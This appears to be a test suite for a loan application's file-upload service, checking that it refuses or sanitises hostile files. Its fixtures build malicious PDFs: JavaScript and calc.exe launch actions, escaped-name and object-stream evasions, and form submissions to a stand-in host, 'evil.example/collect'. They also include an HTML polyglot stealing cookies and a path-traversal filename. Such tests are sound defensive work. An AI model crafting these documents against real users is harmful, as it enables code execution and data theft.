import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { UPLOAD_MESSAGES } from '@sewabeli/domain';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_PDF, TEST_PNG } from '../../testing/multipart';
import { bearer, createTestApp, signIn, type TestApp } from '../../testing/test-app';
import { readDocument } from '../document-analysis/parsers/read-document';

const pixelsOf = async (data: Buffer) => {
  const { data: pixels, info } = await sharp(data).raw().toBuffer({ resolveWithObject: true });
  return { width: info.width, height: info.height, channels: info.channels, pixels: pixels.toString('hex') };
};

let t: TestApp;
let token: string;
beforeAll(async () => {
  const uploadDir = await mkdtemp(path.join(tmpdir(), 'sewabeli-uploads-'));
  t = await createTestApp({ UPLOAD_DIR: uploadDir, MAX_UPLOAD_MB: '0.004' });
  token = await signIn(t.app, 'credit.officer');
});
afterAll(() => t.close());

function multipartBody(fileName: string, data: Buffer, contentType: string) {
  const boundary = '----sewabeli-test-boundary';
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${contentType}\r\n\r\n`;
  const body = Buffer.concat([Buffer.from(head), data, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  return { body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(kind: string, fileName: string, data: Buffer, contentType: string, auth = true) {
  const { body, headers } = multipartBody(fileName, data, contentType);
  return t.app.inject({
    method: 'POST',
    url: `/files?kind=${kind}`,
    payload: body,
    headers: { ...headers, ...(auth ? bearer(token) : {}) },
  });
}

describe('uploads (decisions.md §8)', () => {
  it('stores an image checked by content and serves it only to signed-in staff', async () => {
    const res = await upload('image', 'logo.png', TEST_PNG, 'image/png');
    expect(res.statusCode).toBe(200);
    const body = res.json<{ status: number; id: number; url: string; mimeType: string }>();
    expect(body).toMatchObject({ status: 1, mimeType: 'image/png', url: `/files/${body.id}` });

    const anonymous = await t.app.inject({ method: 'GET', url: body.url });
    expect(anonymous.statusCode).toBe(401);

    const served = await t.app.inject({ method: 'GET', url: body.url, headers: bearer(token) });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(String(served.headers['content-disposition'])).toMatch(/^inline; filename="logo.png"/);
    // Issue 28: the same pixels, written anew.
    expect(await pixelsOf(served.rawPayload)).toEqual(await pixelsOf(TEST_PNG));
  });

  it('keeps the file under a generated key, not the client name', async () => {
    const res = await upload('document', '../../etc/passwd.pdf', TEST_PDF, 'application/pdf');
    const { id } = res.json<{ id: number }>();
    const row = await t.app.db
      .selectFrom('storedFile')
      .selectAll()
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    expect(row.storageKey).toMatch(/^[a-f0-9]{2}\/[a-f0-9]{32}\.pdf$/);
    expect(row.originalName).not.toContain('/');
  });

  it('refuses a file whose content is not what its name claims', async () => {
    const res = await upload('image', 'photo.png', Buffer.from('<script>alert(1)</script>'), 'image/png');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ status: 0, msg: 'Only png, webp, jpeg and jpg images are accepted' });
  });

  it('refuses a PDF where only images are accepted', async () => {
    const res = await upload('image', 'scan.pdf', TEST_PDF, 'application/pdf');
    expect(res.statusCode).toBe(400);
  });

  it('refuses a file over the size limit', async () => {
    const res = await upload(
      'document',
      'big.pdf',
      Buffer.concat([TEST_PDF, Buffer.alloc(8192, 32)]),
      'application/pdf',
    );
    expect(res.statusCode).toBe(413);
    expect(res.json<{ status: number }>().status).toBe(0);
  });

  it('refuses an upload without a session', async () => {
    const res = await upload('image', 'logo.png', TEST_PNG, 'image/png', false);
    expect(res.statusCode).toBe(401);
  });
});

describe('issue 9: images decoded beyond their first bytes; every file answer sandboxed', () => {
  const garbage = Buffer.from('this is not image data, whatever the header says '.repeat(4));

  it.each([
    ['a PNG header followed by garbage', Buffer.concat([TEST_PNG.subarray(0, 16), garbage])],
    ['a truncated PNG', TEST_PNG.subarray(0, TEST_PNG.length - 20)],
    ['a JPEG marker followed by garbage', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), garbage])],
    [
      'a WEBP header followed by garbage',
      Buffer.concat([Buffer.from('RIFF\x40\x00\x00\x00WEBPVP8 ', 'latin1'), garbage]),
    ],
  ])('refuses %s, as an image and as a document', async (_, data) => {
    const image = await upload('image', 'photo.png', data, 'image/png');
    expect(image.statusCode).toBe(400);
    expect(image.json()).toEqual({ status: 0, msg: 'Only png, webp, jpeg and jpg images are accepted' });
    const document = await upload('document', 'scan.png', data, 'image/png');
    expect(document.statusCode).toBe(400);
    expect(document.json()).toEqual({ status: 0, msg: 'Only pdf, png, jpeg and webp files are accepted' });
  });

  it('stores real PNG, JPEG and WEBP pictures', async () => {
    const pixels = sharp({ create: { width: 8, height: 8, channels: 3, background: '#1f6fb4' } });
    for (const [name, data] of [
      ['tiny.png', TEST_PNG],
      ['tiny.jpg', await pixels.clone().jpeg().toBuffer()],
      ['tiny.webp', await pixels.clone().webp().toBuffer()],
    ] as const) {
      const res = await upload('image', name, data, 'application/octet-stream');
      expect(res.statusCode, name).toBe(200);
    }
  });

  it('serves a file, and refuses a missing one, with Content-Security-Policy: sandbox (not the app’s policy)', async () => {
    const { url } = (await upload('document', 'scan.pdf', TEST_PDF, 'application/pdf')).json<{
      url: string;
    }>();
    const served = await t.app.inject({ method: 'GET', url, headers: bearer(token) });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-security-policy']).toMatch(/^sandbox;/);
    const missing = await t.app.inject({ method: 'GET', url: '/files/999999', headers: bearer(token) });
    expect(missing.statusCode).toBe(404);
    expect(missing.headers['content-security-policy']).toMatch(/^sandbox;/);
    const anonymous = await t.app.inject({ method: 'GET', url });
    expect(anonymous.headers['content-security-policy']).toMatch(/^sandbox;/);
    const page = await t.app.inject({ method: 'GET', url: '/healthz' });
    expect(page.headers['content-security-policy']).toContain("default-src 'self'");
  });
});

/** A PDF written by hand: the objects in order (object n is objects[n - 1]), with a correct cross-reference table. */
function handWrittenPdf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((body, index) => {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  return Buffer.concat([...parts, Buffer.from(xref)]);
}

const stream = (dictionary: string, content: string | Buffer) => {
  const data = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
};

/** One page saying "Statement of account" in Helvetica; `catalog` and `page` add entries to those dictionaries. */
function samplePdf(options: { catalog?: string; page?: string; extra?: (string | Buffer)[] } = {}) {
  return handWrittenPdf([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${options.page ?? ''} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    stream('', 'BT /F1 12 Tf 72 720 Td (Statement of account) Tj ET'),
    ...(options.extra ?? []),
  ]);
}

describe('issue 28: uploads keep nothing but their content', () => {
  const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');

  async function storedBytesOf(id: number) {
    const row = await t.app.db
      .selectFrom('storedFile')
      .select(['storageKey', 'sizeBytes'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const chunks: Buffer[] = [];
    for await (const chunk of t.app.fileStorage.open(row.storageKey)) chunks.push(chunk as Buffer);
    const data = Buffer.concat(chunks);
    expect(data.length).toBe(row.sizeBytes);
    return data;
  }

  it.each(['image', 'document', 'applicantDocument'])(
    'a PNG followed by an HTML page is stored (as %s) as its pixels alone',
    async (kind) => {
      const picture = await sharp({
        create: { width: 6, height: 4, channels: 3, background: '#c0392b' },
      })
        .png()
        .toBuffer();
      const polyglot = Buffer.concat([picture, html]);
      const res = await upload(kind, 'logo.png', polyglot, 'image/png');
      expect(res.statusCode).toBe(200);
      const { id, url } = res.json<{ id: number; url: string }>();
      const stored = await storedBytesOf(id);
      expect(stored.includes('<html>')).toBe(false);
      expect(stored.includes('script')).toBe(false);
      expect(await pixelsOf(stored)).toEqual(await pixelsOf(picture));
      const served = await t.app.inject({ method: 'GET', url, headers: bearer(token) });
      expect(served.rawPayload.equals(stored)).toBe(true);
      expect(served.headers['content-disposition']).toMatch(/^inline;/);
    },
  );

  it('a JPEG loses its EXIF (the GPS position with it) and keeps its orientation applied', async () => {
    // 8 wide, 4 high, tagged "rotate 90°" (EXIF orientation 6), taken at the Petronas Towers.
    const photo = await sharp({ create: { width: 8, height: 4, channels: 3, background: '#2e86c1' } })
      .jpeg()
      .withMetadata({
        orientation: 6,
        exif: {
          IFD0: { Make: 'Sewabeli test camera' },
          IFD3: {
            GPSLatitudeRef: 'N',
            GPSLatitude: '3/1 9/1 28/1',
            GPSLongitudeRef: 'E',
            GPSLongitude: '101/1 42/1 42/1',
          },
        },
      })
      .toBuffer();
    const before = await sharp(photo).metadata();
    expect(
      before.exif?.includes('GPS') || before.exif?.toString('latin1').includes('Sewabeli test camera'),
    ).toBe(true);
    expect(before.orientation).toBe(6);

    const res = await upload('image', 'photo.jpg', photo, 'image/jpeg');
    expect(res.statusCode).toBe(200);
    const stored = await storedBytesOf(res.json<{ id: number }>().id);
    const after = await sharp(stored).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(stored.includes('Sewabeli test camera')).toBe(false);
    expect(stored.includes('Exif')).toBe(false);
    expect([after.width, after.height]).toEqual([4, 8]);
  });

  const jsInObjectStream = (() => {
    // The catalog's OpenAction points into a compressed object stream, its names escaped (/J#61vaScript).
    const objects = '6 0 << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>';
    return samplePdf({
      catalog: '/OpenAction 6 0 R',
      extra: [stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(Buffer.from(objects)))],
    });
  })();

  const uriInObjectStream = (() => {
    // As above, an opening action that opens a web address, its type escaped (/U#52I).
    const objects = '6 0 << /S /U#52I /URI (http://evil.example/) >>';
    return samplePdf({
      catalog: '/OpenAction 6 0 R',
      extra: [stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(Buffer.from(objects)))],
    });
  })();

  it.each<[string, Buffer, string]>([
    [
      'JavaScript run on opening',
      samplePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
      UPLOAD_MESSAGES.pdfJavaScript,
    ],
    [
      'document-level JavaScript',
      samplePdf({
        catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
        extra: ['<< /S /JavaScript /JS (this.print\\(\\)) >>'],
      }),
      UPLOAD_MESSAGES.pdfJavaScript,
    ],
    [
      'JavaScript hidden in an object stream under escaped names',
      jsInObjectStream,
      UPLOAD_MESSAGES.pdfJavaScript,
    ],
    [
      'a link whose action is JavaScript',
      samplePdf({
        page: '/Annots [6 0 R]',
        extra: [
          '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /JavaScript /JS (app.launchURL\\("x"\\)) >> >>',
        ],
      }),
      UPLOAD_MESSAGES.pdfJavaScript,
    ],
    [
      'a launch action',
      samplePdf({
        catalog: '/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /NewWindow true >>',
      }),
      UPLOAD_MESSAGES.pdfLaunch,
    ],
    [
      'an embedded file',
      samplePdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(invoice.html) 6 0 R] >> >>',
        extra: [
          '<< /Type /Filespec /F (invoice.html) /UF (invoice.html) /EF << /F 7 0 R >> >>',
          stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', '<script>alert(1)</script>'),
        ],
      }),
      UPLOAD_MESSAGES.pdfEmbeddedFile,
    ],
    [
      'an XFA form',
      samplePdf({
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
        extra: [stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')],
      }),
      UPLOAD_MESSAGES.pdfXfa,
    ],
    // Issue 40: actions that reach out by themselves, as JavaScript is refused.
    [
      'a web address opened on opening',
      samplePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/x) >>' }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      'a form sent on opening',
      samplePdf({
        catalog:
          '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> /Flags 4 >>',
      }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      'an opening action held in another object (/OpenAction 6 0 R)',
      samplePdf({
        catalog: '/OpenAction 6 0 R',
        extra: ['<< /Type /Action /S /URI /URI (http://evil.example/) >>'],
      }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      'an opening action under a hex-escaped name (/#55RI)',
      samplePdf({ catalog: '/Open#41ction << /S /#55RI /URI (http://evil.example/) >>' }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    ['an opening action in a compressed object stream', uriInObjectStream, UPLOAD_MESSAGES.pdfAutoLink],
    [
      'a web address chained after a harmless opening action (/Next)',
      samplePdf({
        catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >>',
      }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      "a page's open action (/AA /O)",
      samplePdf({ page: '/AA << /O << /S /URI /URI (http://evil.example/) >> >>' }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      "the document's additional actions held in other objects (/AA 6 0 R)",
      samplePdf({
        catalog: '/AA 6 0 R',
        extra: ['<< /WC 7 0 R >>', '<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>'],
      }),
      UPLOAD_MESSAGES.pdfAutoLink,
    ],
    [
      'another file opened on opening (/GoToR)',
      samplePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>' }),
      UPLOAD_MESSAGES.pdfLaunch,
    ],
    [
      'form data imported on opening (/ImportData)',
      samplePdf({ catalog: '/OpenAction << /S /ImportData /F (http://evil.example/data.fdf) >>' }),
      UPLOAD_MESSAGES.pdfLaunch,
    ],
  ])('refuses a PDF with %s, as a document and as an application document', async (_, pdf, message) => {
    for (const kind of ['document', 'applicantDocument']) {
      const before = await t.app.db
        .selectFrom('storedFile')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirstOrThrow();
      const res = await upload(kind, 'statement.pdf', pdf, 'application/pdf');
      expect(res.statusCode, kind).toBe(400);
      expect(res.json()).toEqual({ status: 0, msg: message });
      const after = await t.app.db
        .selectFrom('storedFile')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirstOrThrow();
      expect(Number(after.n)).toBe(Number(before.n));
    }
  });

  it.each<[string, Buffer]>([
    ['an opening view ([page /Fit])', samplePdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
    [
      'a go-to-page opening action whose text only mentions /S /URI',
      samplePdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Note (\\) >> /S /URI) >>' }),
    ],
    [
      'an opening view held in another object',
      samplePdf({ catalog: '/OpenAction 6 0 R', extra: ['[3 0 R /FitH 800]'] }),
    ],
    [
      'a link the reader clicks to open a web address',
      samplePdf({
        page: '/Annots [6 0 R]',
        extra: [
          '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.com/) >> >>',
        ],
      }),
    ],
  ])('issue 40: accepts a PDF with %s', async (_, pdf) => {
    const res = await upload('document', 'statement.pdf', pdf, 'application/pdf');
    expect(res.statusCode).toBe(200);
  });

  it('accepts a plain PDF as it came, serves it as a download, and its text still reads', async () => {
    const plain = samplePdf();
    const res = await upload('applicantDocument', 'statement.pdf', plain, 'application/pdf');
    expect(res.statusCode).toBe(200);
    const { id, url } = res.json<{ id: number; url: string }>();
    const stored = await storedBytesOf(id);
    expect(stored.equals(plain)).toBe(true);
    const served = await t.app.inject({ method: 'GET', url, headers: bearer(token) });
    expect(served.headers['content-disposition']).toMatch(/^attachment; filename="statement.pdf"/);
    expect(served.headers['content-type']).toBe('application/pdf');
    const { table } = await readDocument(stored);
    expect(table.rows).toEqual([['Statement of account']]);
  });
});
